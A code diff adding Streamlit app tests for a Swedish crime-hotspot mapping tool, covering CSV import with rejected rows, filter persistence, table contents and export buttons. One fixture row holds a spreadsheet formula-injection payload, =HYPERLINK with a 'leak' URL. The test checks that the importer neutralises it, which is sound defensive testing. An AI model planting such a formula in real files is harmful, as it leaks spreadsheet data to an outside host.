@@ -336,3 +336,135 @@ def test_official_layers_from_hotspots_geography_are_used(
     at = _fresh_app_run(store, monkeypatch, app_script)
     table = _first_hotspot_table(at)
     assert set(table[t("district", "sv")]) == {"Provdistrikt"}
+
+
+# --- issue 14: what a new user hit ---------------------------------------------------------
+
+#: A Swedish spreadsheet export: ';' separators, decimal commas, Swedish headers; 5 good rows
+#: around Örebro (the make_app_store town) and 4 bad ones.
+SWEDISH_BAD_ROWS = (
+    "tidpunkt;kategori;lat;lon\n"
+    "2026-03-20 22:15;Misshandel i offentlig miljö;59,2195;15,2410\n"
+    "2026-03-20 23:40;assault_public;59,2201;15,2415\n"
+    "2026-03-21 01:10;Skadegörelse;59,2188;15,2420\n"
+    "2026-03-21 02:30;vandalism;59,2210;15,2400\n"
+    "2026-03-21 03:05;Rån;59,2195;15,2412\n"
+    "inte en tid;assault_public;59,2195;15,2410\n"
+    '2026-03-21 04:00;=HYPERLINK("http://x/?leak="&A1,"y");59,2195;15,2410\n'
+    "2026-03-21 05:00;assault_public;;15,2410\n"
+    "2026-03-21 06:00;assault_public;15,2410;59,2195\n"
+)
+
+
+def _table_with(at, column: str) -> pd.DataFrame:
+    """The first table on the page with a column named ``column``."""
+    tables = [d.value for d in at.dataframe if column in d.value.columns]
+    assert tables, f"no table with a column {column!r}"
+    return tables[0]
+
+
+def _upload(at, name: str, data: bytes):
+    at.sidebar.radio(key="page").set_value("data").run()
+    at.file_uploader(key="upload").set_value((name, data, "text/csv")).run()
+    at.button(key="import_button").click().run()
+    assert not at.exception, at.exception
+    return at
+
+
+def test_a_swedish_file_with_bad_rows_shows_the_rejected_rows_and_why(
+    tmp_path: Path, monkeypatch, make_app_store, app_script: Path
+) -> None:
+    """Item 1: the page read the ';' rejects file back with plain read_csv and crashed."""
+    from streamlit.testing.v1 import AppTest
+
+    db = make_app_store(tmp_path / "store.gpkg")
+    n = len(open_store(db).incidents())
+    monkeypatch.setenv("HOTSPOTS_DB", str(db))
+    at = AppTest.from_file(str(app_script), default_timeout=120)
+    at.run()
+    _upload(at, "brott.csv", SWEDISH_BAD_ROWS.encode("utf-8"))
+    assert [s.value for s in at.success] == [
+        t("app_import_done", "sv", accepted=5, inserted=5, updated=0, rejected=4)
+    ]
+    assert len(open_store(db).incidents()) == n + 5
+    rejects = _table_with(at, "Orsak")
+    assert list(rejects.columns) == ["Rad", "Kolumn", "Värde", "Orsak"]
+    assert rejects["Rad"].astype(int).tolist() == [7, 8, 9, 10]
+    reasons = rejects["Orsak"].tolist()
+    assert reasons[0].startswith("tiden går inte att läsa")
+    assert reasons[1].startswith("okänd kategori")
+    assert reasons[2] == "läge saknas: lat eller lon är tom"
+    assert reasons[3] == "lat/lon ser ut som omkastade lat/lon; byt plats på kolumnerna"
+    assert rejects["Värde"].tolist()[1].startswith("'=HYPERLINK")  # neutralised, as in the file
+    [download] = at.get("download_button")
+    assert download.proto.label == t("app_rejects_download", "sv")
+    assert download.proto.url.endswith(".csv")
+    # in English the same rows, with the importer's own reasons
+    at.sidebar.radio(key="lang").set_value("en").run()
+    assert not at.exception, at.exception
+    rejects = _table_with(at, "Reason")
+    assert list(rejects.columns) == ["Row", "Column", "Value", "Reason"]
+    assert rejects["Reason"].tolist()[2] == "missing location: lat or lon is empty"
+
+
+def _weekdays(at) -> list[int]:
+    return list(at.sidebar.multiselect(key="weekdays").value)
+
+
+def test_filters_survive_a_language_switch_and_a_page_switch(app) -> None:
+    """Item 2: fre, lör; English; Night only: the weekdays box was empty, the map said all."""
+    app.sidebar.multiselect(key="weekdays").set_value([4, 5]).run()
+    app.sidebar.selectbox(key="area").set_value("violence").run()
+    before = _first_hotspot_table(app)
+    app.sidebar.radio(key="lang").set_value("en").run()
+    assert _weekdays(app) == [4, 5]
+    app.sidebar.checkbox(key="night").check().run()
+    assert not app.exception, app.exception
+    assert _weekdays(app) == [4, 5]
+    assert app.sidebar.selectbox(key="area").value == "violence"
+    night = _first_hotspot_table(app)
+    # a page without filters, and back: every filter as it was
+    app.sidebar.radio(key="page").set_value("data").run()
+    assert not app.sidebar.get("multiselect")  # the data page has no filters
+    app.sidebar.radio(key="page").set_value("map").run()
+    assert not app.exception, app.exception
+    assert _weekdays(app) == [4, 5]
+    assert app.sidebar.checkbox(key="night").value is True
+    assert app.sidebar.selectbox(key="area").value == "violence"
+    assert _first_hotspot_table(app).equals(night)
+    app.sidebar.radio(key="lang").set_value("sv").run()
+    assert _weekdays(app) == [4, 5]
+    app.sidebar.checkbox(key="night").uncheck().run()
+    assert _first_hotspot_table(app).shape[0] == before.shape[0]
+
+
+def test_the_hotspot_table_holds_crime_hotspots_only_and_never_none(app) -> None:
+    """Item 4: the metric counts crime hotspots; the table under it lists the same."""
+    app.sidebar.selectbox(key="area").set_value("violence").run()
+    metrics = {m.label: m.value for m in app.metric}
+    table = _first_hotspot_table(app)
+    assert int(metrics[t("layer_hotspots", "sv")]) == len(table)
+    assert table[t("rank", "sv")].tolist() == list(range(1, len(table) + 1))
+    text = table.astype(str).to_numpy().ravel().tolist()
+    assert not [v for v in text if v in ("None", "nan", "<NA>") or "{'" in v or "label_" in v]
+
+
+def test_export_buttons_stay_after_a_download_and_a_rerun(app) -> None:
+    """Item 6: each of HTML, PNG, PDF and zip needed "Skapa exportfiler" again."""
+    app.button(key="prepare_exports").click().run()
+    labels_before = [b.proto.label for b in app.get("download_button")]
+    assert len(labels_before) == 4
+    app.run()  # what a download did: a rerun of the page
+    assert [b.proto.label for b in app.get("download_button")] == labels_before
+    assert not app.get("button") or all(b.key != "prepare_exports" for b in app.button)
+    app.sidebar.slider(key="coverage").set_value(10).run()  # a new setting: files to make
+    assert not app.get("download_button")
+    assert any(b.key == "prepare_exports" for b in app.button)
+
+
+def test_the_evaluation_page_names_its_methods_in_words(app) -> None:
+    _open(app, "evaluation")
+    methods = set(app.dataframe[0].value[t("method", "sv")])
+    assert "Förra periodens brottsrutor (25 m)" in methods
+    assert not [m for m in methods if m.startswith(("naive", "kde"))]
+    assert any("PEI*" in c.value for c in app.caption)
